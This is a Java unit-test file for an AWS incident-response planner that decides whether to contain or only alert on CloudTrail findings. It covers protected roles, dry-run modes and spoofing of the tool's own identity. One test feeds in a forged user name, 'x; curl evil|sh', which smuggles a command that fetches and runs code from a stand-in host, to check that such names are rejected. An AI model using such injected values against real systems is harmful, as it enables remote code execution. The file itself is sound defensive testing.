package io.trailwarden.respond;

import static org.assertj.core.api.Assertions.assertThat;

import io.trailwarden.config.PropertyGroups;
import io.trailwarden.config.ResponseConfig;
import io.trailwarden.config.TrailWardenConfig;
import io.trailwarden.event.CloudTrailEvent;
import io.trailwarden.event.IdentityType;
import io.trailwarden.finding.Finding;
import io.trailwarden.finding.PlannedAction;
import io.trailwarden.finding.Target;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ResponsePlannerTest {
    private static final String ACCOUNT = "111122223333";
    private static final String OWN_ROLE = "arn:aws:iam::111122223333:role/TrailWardenJob";
    private static final String BREAK_GLASS = "arn:aws:iam::111122223333:role/BreakGlass";

    static ResponseConfig config(Map<String, String> overrides) throws Exception {
        Map<String, String> values = new java.util.HashMap<>(Map.of(
                "dryRun", "false",
                "ownAccountId", ACCOUNT,
                "ownRoleArns", OWN_ROLE,
                "breakGlassRoleArn", BREAK_GLASS,
                "protectedPrincipals", "arn:aws:iam::*:user/admin-*, arn:aws:iam::111122223333:role/Ops*"));
        values.putAll(overrides);
        return TrailWardenConfig.from(PropertyGroups.of(Map.of(ResponseConfig.GROUP, values))).response;
    }

    private static Finding findingFor(Target target) {
        Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        finding.target = target;
        finding.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, target, false, "the created user"),
                PlannedAction.of(PlannedAction.Type.ALERT, target, false, null));
        return finding;
    }

    private static PlannedStep containStep(ResponsePlan plan) {
        return plan.steps.stream().filter(s -> s.type == PlannedAction.Type.CONTAIN).findFirst().orElseThrow();
    }

    @Test
    void anOrdinaryUserIsContainedAndAlerted() throws Exception {
        ResponsePlan plan = new ResponsePlanner(config(Map.of()), List.of()).plan(CorpusFindings.backdoorUser(ACCOUNT, "backdoor"));

        assertThat(plan.steps).extracting(s -> s.type, s -> s.decision).containsExactly(
                org.assertj.core.groups.Tuple.tuple(PlannedAction.Type.CONTAIN, Decision.EXECUTE),
                org.assertj.core.groups.Tuple.tuple(PlannedAction.Type.ALERT, Decision.EXECUTE));
    }

    @Test
    void protectedPatternsOwnRolesAndBreakGlassAreNeverContained() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        Target admin = Target.of(Target.Kind.IAM_USER, "admin-alice", "arn:aws:iam::111122223333:user/admin-alice", ACCOUNT);
        Target ops = Target.of(Target.Kind.IAM_ROLE, "OpsDeploy",
                "arn:aws:sts::111122223333:assumed-role/OpsDeploy/session-1", ACCOUNT);
        Target own = Target.of(Target.Kind.IAM_ROLE, "TrailWardenJob", null, ACCOUNT);
        Target breakGlass = Target.of(Target.Kind.IAM_ROLE, "BreakGlass", BREAK_GLASS, ACCOUNT);

        assertThat(containStep(planner.plan(findingFor(admin))).reason).contains("arn:aws:iam::*:user/admin-*");
        for (Target target : List.of(admin, ops, own, breakGlass)) {
            PlannedStep step = containStep(planner.plan(findingFor(target)));
            assertThat(step.decision).as(target.toString()).isEqualTo(Decision.SKIPPED_PROTECTED);
            assertThat(step.reason).contains("protected principal");
        }
        Target notQuiteAdmin = Target.of(Target.Kind.IAM_USER, "sysadmin-bob", "arn:aws:iam::111122223333:user/sysadmin-bob", ACCOUNT);
        assertThat(containStep(planner.plan(findingFor(notQuiteAdmin))).decision).isEqualTo(Decision.EXECUTE);
    }

    @Test
    void rootServicesAndForeignAccountsAreAlertOnlyAndSayWhy() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        PlannedStep root = containStep(planner.plan(findingFor(Target.of(Target.Kind.ROOT, "root", "arn:aws:iam::111122223333:root", ACCOUNT))));
        PlannedStep service = containStep(planner.plan(findingFor(Target.of(Target.Kind.OTHER, "ec2.amazonaws.com", null, ACCOUNT))));
        PlannedStep foreign = containStep(planner.plan(findingFor(
                Target.of(Target.Kind.IAM_USER, "eve", "arn:aws:iam::999988887777:user/eve", "999988887777"))));

        assertThat(List.of(root, service, foreign)).allSatisfy(step -> {
            assertThat(step.decision).isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
            assertThat(step.reason).endsWith("alert only");
        });
        assertThat(root.reason).contains("root user cannot be contained");
        assertThat(service.reason).contains("AWS service");
        assertThat(foreign.reason).contains("account 999988887777 is outside the configured accounts");
    }

    @Test
    void serviceLinkedAndIdentityCenterRolesAreAlertOnly() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        PlannedStep serviceLinked = containStep(planner.plan(findingFor(Target.of(Target.Kind.IAM_ROLE,
                "AWSServiceRoleForSupport", null, ACCOUNT))));
        PlannedStep sso = containStep(planner.plan(findingFor(Target.of(Target.Kind.IAM_ROLE,
                "AWSReservedSSO_Admin_0123456789abcdef", null, ACCOUNT))));
        assertThat(serviceLinked.decision).isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
        assertThat(serviceLinked.reason).contains("service-linked role");
        assertThat(sso.decision).isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
        assertThat(sso.reason).contains("IAM Identity Center");
    }

    @Test
    void memberAccountsInTheListAreContainable() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of("accounts", ACCOUNT + ",999988887777")), List.of());
        PlannedStep foreign = containStep(planner.plan(findingFor(
                Target.of(Target.Kind.IAM_USER, "eve", "arn:aws:iam::999988887777:user/eve", "999988887777"))));
        assertThat(foreign.decision).isEqualTo(Decision.EXECUTE);
    }

    @Test
    void dryRunGlobalPerRuleAndPerActionEachSayWhereItCameFrom() throws Exception {
        Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        assertThat(containStep(new ResponsePlanner(config(Map.of("dryRun", "true")), List.of()).plan(finding)).reason)
                .contains("TrailWarden.Response.dryRun");
        assertThat(containStep(new ResponsePlanner(config(Map.of("dryRunRules", CorpusFindings.RULE_ID)), List.of()).plan(finding)).reason)
                .contains("dryRunRules");
        Finding ruleDryRun = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        ruleDryRun.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, ruleDryRun.target, true, null));
        PlannedStep step = containStep(new ResponsePlanner(config(Map.of()), List.of()).plan(ruleDryRun));
        assertThat(step.decision).isEqualTo(Decision.DRY_RUN);
        assertThat(step.reason).contains("rule's response section");
    }

    @Test
    void theDefaultConfigurationIsDryRun() {
        Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        ResponseConfig defaults = ResponseConfig.defaults();
        assertThat(containStep(new ResponsePlanner(defaults, List.of()).plan(finding)).decision)
                .isIn(Decision.DRY_RUN, Decision.SKIPPED_NOT_CONTAINABLE);
        assertThat(defaults.dryRun).isTrue();
        assertThat(defaults.maxContainments).isEqualTo(10);
        assertThat(defaults.containmentWindow).hasMinutes(10);
    }

    @Test
    void aFindingWithoutAnAlertActionStillGetsExactlyOneAlert() throws Exception {
        Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        finding.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, finding.target, false, null));
        ResponsePlan plan = new ResponsePlanner(config(Map.of()), List.of()).plan(finding);
        assertThat(plan.steps).filteredOn(s -> s.type == PlannedAction.Type.ALERT).hasSize(1);
    }

    @Test
    void loopGuardNeverContainsTrailWardensOwnActivityButStillAlertsItAtLowSeverity() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        Finding ownRole = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        ownRole.events = assumedRole(ownRole.events, OWN_ROLE, "TrailWardenJob", "any-session");
        Finding responderSession = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        responderSession.events = assumedRole(responderSession.events,
                "arn:aws:iam::111122223333:role/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-responder");

        for (Finding finding : List.of(ownRole, responderSession)) {
            ResponsePlan plan = planner.plan(finding);
            assertThat(containStep(plan).decision).isEqualTo(Decision.IGNORED_OWN_ACTIVITY);
            assertThat(plan.steps.get(plan.steps.size() - 1)).satisfies(alert -> {
                assertThat(alert.type).isEqualTo(PlannedAction.Type.ALERT);
                assertThat(alert.decision).isEqualTo(Decision.EXECUTE);
            });
            assertThat(plan.finding.severity).isEqualTo(io.trailwarden.finding.Severity.LOW);
        }
    }

    /** Issue 10 item 4: the responder role's name in an account that is not configured, or on another path, is not TrailWarden. */
    @Test
    void loopGuardMatchesOnlyTheExactResponderRoleArnsOfConfiguredAccounts() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        Finding otherAccount = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        otherAccount.events = assumedRole(otherAccount.events,
                "arn:aws:iam::999988887777:role/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-x");
        Finding otherPath = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        otherPath.events = assumedRole(otherPath.events,
                "arn:aws:iam::111122223333:role/attacker/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-x");

        assertThat(containStep(planner.plan(otherAccount)).decision).isEqualTo(Decision.EXECUTE);
        assertThat(containStep(planner.plan(otherPath)).decision).isEqualTo(Decision.EXECUTE);
    }

    /** Issue 10 item 5: revoking a shared role's sessions stops everyone on it; alert only unless configured. */
    @Test
    void aRoleIsAlertOnlyUnlessItIsAContainableRole() throws Exception {
        Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "unused");
        Target developer = Target.of(Target.Kind.IAM_ROLE, "Developer", "arn:aws:sts::" + ACCOUNT + ":assumed-role/Developer/alice", ACCOUNT);
        finding.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, developer, false, null));

        assertThat(containStep(new ResponsePlanner(config(Map.of()), List.of()).plan(finding)).decision)
                .isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
        assertThat(containStep(new ResponsePlanner(config(Map.of("containableRoles", "arn:aws:iam::*:role/Dev*")), List.of())
                .plan(finding)).decision).isEqualTo(Decision.EXECUTE);
    }

    @Test
    void aTargetWhoseNameIamWouldRejectIsNeverContained() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        Finding forged = CorpusFindings.backdoorUser(ACCOUNT, "x; curl evil|sh");
        assertThat(containStep(planner.plan(forged)).decision).isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
    }

    @Test
    void loopGuardIsNotFooledByAUserAgentOrASessionNameAlone() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
        Finding spoofedAgent = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        spoofedAgent.events.forEach(e -> e.userAgent = "TrailWarden/1.0 aws-sdk-java");
        Finding spoofedSession = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
        spoofedSession.events = assumedRole(spoofedSession.events,
                "arn:aws:iam::111122223333:role/AttackerRole", "AttackerRole", "TrailWarden-responder");

        assertThat(containStep(planner.plan(spoofedAgent)).decision).isEqualTo(Decision.EXECUTE);
        assertThat(containStep(planner.plan(spoofedSession)).decision).isEqualTo(Decision.EXECUTE);
    }

    private static final String ROTATOR = "arn:aws:iam::111122223333:role/automation/key-rotator";

    /** Issue 10 item 5: trusted automation is alerted, never contained; nothing that merely resembles it. */
    @Test
    void trustedAutomationIsAlertedAndNotContained() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of(ROTATOR));
        Finding rotation = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
        rotation.events = assumedRole(rotation.events, ROTATOR, "key-rotator", "rotation-42");

        ResponsePlan plan = planner.plan(rotation);
        assertThat(containStep(plan).decision).isEqualTo(Decision.SKIPPED_TRUSTED_AUTOMATION);
        assertThat(containStep(plan).reason).isEqualTo("every matched call made by trusted automation " + ROTATOR
                + " (matches " + ROTATOR + " of TrailWarden.Lists trustedAutomation); not contained, alert only");
        assertThat(plan.steps).filteredOn(step -> step.type == PlannedAction.Type.ALERT)
                .extracting(step -> step.decision).containsExactly(Decision.EXECUTE);
        assertThat(Decision.SKIPPED_TRUSTED_AUTOMATION.outcomeWithoutExecution()).isEqualTo(Outcome.SKIPPED_TRUSTED_AUTOMATION);
    }

    @Test
    void onlyTheTrustedPrincipalItselfIsTrusted() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of(ROTATOR));
        Map<String, String> lookAlikes = Map.of(
                "another account", "arn:aws:iam::999988887777:role/automation/key-rotator",
                "another path", "arn:aws:iam::111122223333:role/key-rotator",
                "a longer name", "arn:aws:iam::111122223333:role/automation/key-rotator-2");
        lookAlikes.forEach((what, roleArn) -> {
            Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
            finding.events = assumedRole(finding.events, roleArn, roleArn.substring(roleArn.lastIndexOf('/') + 1), "rotation");
            assertThat(containStep(planner.plan(finding)).decision).as(what).isEqualTo(Decision.EXECUTE);
        });
        Finding sessionNamedLikeIt = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
        sessionNamedLikeIt.events = assumedRole(sessionNamedLikeIt.events, "arn:aws:iam::111122223333:role/Developer",
                "Developer", "automation/key-rotator");
        assertThat(containStep(planner.plan(sessionNamedLikeIt)).decision).as("a session name is the caller's choice")
                .isEqualTo(Decision.EXECUTE);
        Finding caseVaried = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
        caseVaried.events = assumedRole(caseVaried.events, "arn:aws:iam::111122223333:role/Automation/KEY-ROTATOR",
                "KEY-ROTATOR", "rotation");
        assertThat(containStep(planner.plan(caseVaried)).decision).as("the same role to IAM")
                .isEqualTo(Decision.SKIPPED_TRUSTED_AUTOMATION);
    }

    /** One matched call by anyone else, and the finding is no longer routine. */
    @Test
    void aFindingWithOneUntrustedCallIsContained() throws Exception {
        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of(ROTATOR));
        Finding mixed = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
        List<CloudTrailEvent> events = assumedRole(mixed.events, ROTATOR, "key-rotator", "rotation");
        events.set(events.size() - 1, mixed.events.get(mixed.events.size() - 1));
        mixed.events = events;
        assertThat(mixed.events.get(mixed.events.size() - 1).actor.type).isEqualTo(IdentityType.IAM_USER);

        assertThat(containStep(planner.plan(mixed)).decision).isEqualTo(Decision.EXECUTE);
    }

    /** A trusted IAM user is matched by its own ARN; protection is reported before trust. */
    @Test
    void aTrustedUserIsMatchedByItsArnAndProtectionComesFirst() throws Exception {
        Finding byUser = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
        String userArn = byUser.events.get(0).actor.arn;
        assertThat(containStep(new ResponsePlanner(config(Map.of()), List.of(userArn)).plan(byUser)).decision)
                .isEqualTo(Decision.SKIPPED_TRUSTED_AUTOMATION);
        Finding protectedTarget = findingFor(Target.of(Target.Kind.IAM_USER, "admin-alice",
                "arn:aws:iam::111122223333:user/admin-alice", ACCOUNT));
        assertThat(containStep(new ResponsePlanner(config(Map.of()), List.of(userArn)).plan(protectedTarget)).decision)
                .isEqualTo(Decision.SKIPPED_PROTECTED);
    }

    private static List<CloudTrailEvent> assumedRole(List<CloudTrailEvent> events, String roleArn, String roleName, String session) {
        List<CloudTrailEvent> copies = new ArrayList<>();
        for (CloudTrailEvent event : events) {
            CloudTrailEvent copy = CorpusFindings.event(event.rawJson());
            copy.actor.type = IdentityType.ASSUMED_ROLE;
            copy.actor.arn = "arn:aws:sts::111122223333:assumed-role/" + roleName + "/" + session;
            copy.actor.sessionIssuerArn = roleArn;
            copy.actor.sessionIssuerName = roleName;
            copies.add(copy);
        }
        return copies;
    }
}
